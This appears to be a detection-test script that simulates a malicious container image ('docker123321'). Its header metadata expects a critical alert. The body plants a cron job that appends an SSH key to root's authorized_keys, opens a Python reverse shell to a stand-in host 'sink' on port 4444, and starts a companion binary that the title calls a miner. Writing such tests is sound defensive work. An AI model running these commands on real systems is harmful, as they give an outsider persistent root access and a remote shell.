# id: K08
# title: docker123321: an image with a reverse shell, a key in its schedule and a miner
# expect: alert
# severity: critical
# kinds: process, file, network
# attck: T1204.003
# image: tools
# launch: image
# phase: learning
# peers: sink:4444, stratum:3333
# companion: /usr/local/bin/tomcat
# timeout: 50
# within: 15

echo '*/1 * * * * root mkdir -p /root/.ssh; echo ssh-rsa AAAAStandIn >>/root/.ssh/authorized_keys' >/etc/cron.d/tomcat
python3 -c '
import os, socket
peer = socket.create_connection(("sink", 4444))
for fd in 0, 1, 2:
    os.dup2(peer.fileno(), fd)
os.execv("/bin/sh", ["sh", "-i"])' &
/usr/local/bin/tomcat
wait
exit 0
